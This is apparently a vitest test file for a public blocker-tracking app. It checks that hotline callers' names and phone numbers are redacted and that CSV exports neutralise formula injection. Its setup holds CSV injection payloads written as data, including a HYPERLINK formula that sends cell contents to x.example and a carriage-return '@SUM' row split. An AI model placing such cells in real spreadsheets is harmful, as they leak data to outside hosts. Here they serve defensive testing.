/**
 * Issue #9 as an outsider tries it on the public side: the leaking hotline call, phone numbers in
 * titles, and a CSV cell that a spreadsheet would split into a new row starting with a formula.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { App } from '../../src/app.ts';
import { CSV_COLUMNS, neutralise } from '../../src/http/export-csv.ts';
import { renderText } from '../../src/render/text.ts';
import { serveApp, TestClock, testApp } from '../support/app.ts';
import { csvRows } from '../support/csv.ts';

const admin = { platform: 'console' as const, id: 'root', name: 'root' };
const chat = { platform: 'console' as const, id: 'console' };

let app: App;
let close: (() => Promise<void>) | undefined;
let base = '';
const run = async (text: string) => {
  const out = renderText((await app.dispatcher.handle({ text, who: admin, chat, asAdmin: true })).reply);
  if (/^Error/.test(out)) throw new Error(`${text} -> ${out}`);
  return out;
};
const get = async (path: string) => (await fetch(base + path)).text();

/** The digits of every phone number used below, as they would show if not redacted. */
const PHONES = [
  '0987654321',
  '0912/345/678',
  '+84 (912) 345 678',
  '0234 3822 123',
  '0976 111 222',
  '0912 888 999',
];
const digits = (s: string) => s.replace(/\D/g, '');

beforeAll(async () => {
  app = await testApp({ clock: new TestClock(new Date('2026-03-11T03:00:00Z')) });
  // A person whose display name carries a phone number, made the owner of B-8 below.
  const owner = { platform: 'slack' as const, id: 'UPHONE', name: 'Lan 0912 888 999' };
  await app.dispatcher.handle({ text: '/help', who: owner, chat });
  for (const line of [
    '/unit add MOF "Ministry of Finance" block:government kind:ministry',
    '/unit add HUE "Hue City" block:government kind:locality',
    // B-1: the leaking call of the issue, never triaged.
    '/hotline Tran Thi B: caller Tran Thi B, phone 0987654321, says portal down',
    // B-2..B-4: triaged titles quoting numbers in the three forms of the issue.
    '/blocker add Call the desk at 0912/345/678 about licences owner:MOF due:+10d',
    '/blocker add Hotline +84 (912) 345 678 keeps ringing owner:HUE due:+12d',
    '/blocker add Landline 0234 3822 123 is out owner:HUE due:+14d',
    // B-5: a hotline call that is triaged (given an owner), its caller named in the description.
    '/hotline Le Van C: Lê Văn C reports the tax portal rejects e-invoices, call 0976 111 222',
    '/blocker assign B-5 MOF',
    '/blocker due B-5 +7d',
    // B-6, B-7: titles that a spreadsheet would run.
    '/roadmap add MOF Publish hotline 0912 345 678 on the portal due:+60d',
  ])
    await run(line);
  // A Slack modal, an import or an API keeps a bare CR and leading spaces that chat text folds away.
  const actor = await app.services.identity.resolve(admin, { asAdmin: true });
  for (const title of ['Budget line\r@SUM(A1:A9)', '  =HYPERLINK("http://x.example/?"&A1)'])
    await app.services.blockers.add(actor, { title, ownerUnit: 'MOF' });
  await run('/blocker add Owned by a person with a number owner:MOF to:<@UPHONE> due:+5d');
  ({ base, close } = await serveApp(app));
}, 60_000);
afterAll(() => close?.());

describe('the leaking call: an untriaged hotline call on the public page', () => {
  it('is counted on GET /, never listed: no caller name, no phone, no description', async () => {
    const html = await get('/');
    expect(html).toContain('Hotline calls waiting for triage: 1');
    for (const secret of ['Tran Thi B', '0987654321', 'portal down', 'B-1<', '>B-1'])
      expect(html).not.toContain(secret);
    expect(await get('/?lang=vi')).toContain('Cuộc gọi đường dây nóng chờ phân loại: 1');
  });

  it('is not in the CSV export or the calendar either', async () => {
    const csv = await get('/export/blockers.csv');
    const ids = csvRows(csv, { anyBreak: true }).map((r) => r[0]);
    expect(ids).not.toContain('B-1');
    expect(await get('/export/blockers.csv?status=new')).not.toContain('portal down');
    expect(await get('/calendar.ics')).not.toContain('portal down');
  });

  it('once triaged, is listed with the caller’s name and number taken out', async () => {
    const html = await get('/');
    expect(html).toContain('B-5');
    expect(html).toContain('reports the tax portal rejects e-invoices');
    for (const secret of ['Lê Văn C', 'Le Van C', '0976 111 222']) expect(html).not.toContain(secret);
    // An owner's display name keeps its words, not its number.
    expect(html).toContain('Lan […]');
  });
});

describe('phone numbers in any format are redacted everywhere public', () => {
  it.each([
    ['GET /', '/'],
    ['GET /?lang=vi', '/?lang=vi'],
    ['the CSV export', '/export/blockers.csv'],
    ['the calendar', '/calendar.ics'],
  ])('%s shows the titles without the numbers', async (_name, path) => {
    const body = await get(path);
    expect(body).toContain('Call the desk at');
    expect(body).toContain('keeps ringing');
    expect(body).toContain('Owned by a person with a number');
    if (!path.includes('.csv')) expect(body).toContain('Publish hotline');
    for (const p of PHONES) {
      expect(body).not.toContain(p);
      expect(digits(body)).not.toContain(digits(p).replace(/^84/, ''));
    }
  });
});

describe('the CSV formula: a bare CR followed by @SUM(…)', () => {
  it('stays one quoted cell of one row, and no cell can run as a formula', async () => {
    const text = (await get('/export/blockers.csv')).replace(/^\uFEFF/, '');
    expect(text).toContain('"Budget line\r@SUM(A1:A9)"');
    const rows = csvRows(text, { anyBreak: true });
    for (const r of rows) {
      expect(r, JSON.stringify(r)).toHaveLength(CSV_COLUMNS.length);
      for (const cell of r) expect(cell, JSON.stringify(r)).not.toMatch(/^(?:[\t\r]|\s*[=+\-@])/);
    }
    const titles = rows.map((r) => r[1]);
    expect(titles).toContain('\'=HYPERLINK("http://x.example/?"&A1)');
    expect(titles).toContain('Budget line\r@SUM(A1:A9)');
  });
});

describe('neutralise (every CSV text cell)', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['  =1+1', "'  =1+1"],
    ['+84 912', "'+84 912"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\r@SUM(A1)', "'\r@SUM(A1)"],
    ['Budget line', 'Budget line'],
    ['2026-12-31T17:00:00+07:00', '2026-12-31T17:00:00+07:00'],
  ])('%j -> %j', (cell, out) => expect(neutralise(cell)).toBe(out));
});
